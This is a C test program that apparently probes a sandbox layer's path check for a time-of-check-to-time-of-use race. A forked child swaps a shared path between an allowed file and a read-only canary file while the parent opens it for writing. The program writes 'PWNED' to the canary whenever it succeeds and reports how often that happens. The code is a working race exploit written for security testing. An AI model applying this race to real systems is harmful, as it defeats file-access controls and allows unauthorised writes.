/* Races a grate's path check: a forked child flips a shared path between an
 * allowed file and /ro/canary.txt while the parent opens it for writing, argv[1]
 * times (default 20000). Prints how often the open reached the canary itself. */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static const char okay[] = "/tmp/okayy.txt";   /* same length as the canary's path */
static const char canary[] = "/ro/canary.txt";

int main(int argc, char **argv)
{
	int tries = argc > 1 ? atoi(argv[1]) : 20000;
	struct stat cst;
	if (stat(canary, &cst) != 0) {
		printf("no canary\n");
		return 1;
	}
	char *page = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	volatile char *stop = page + 2048;
	memcpy(page, okay, sizeof okay);
	pid_t child = fork();
	if (child == 0) {
		while (!*stop) {
			memcpy(page, okay, sizeof okay);
			memcpy(page, canary, sizeof canary);
		}
		_exit(0);
	}
	int hits = 0, opened = 0;
	for (int i = 0; i < tries; i++) {
		int fd = open(page, O_WRONLY | O_TRUNC | O_CREAT, 0644);
		if (fd < 0)
			continue;
		opened++;
		struct stat st;
		if (fstat(fd, &st) == 0 && st.st_ino == cst.st_ino && st.st_dev == cst.st_dev) {
			hits++;
			write(fd, "PWNED", 5);
		}
		close(fd);
	}
	*stop = 1;
	waitpid(child, NULL, 0);
	printf("hits=%d opened=%d tries=%d\n", hits, opened, tries);
	return 0;
}
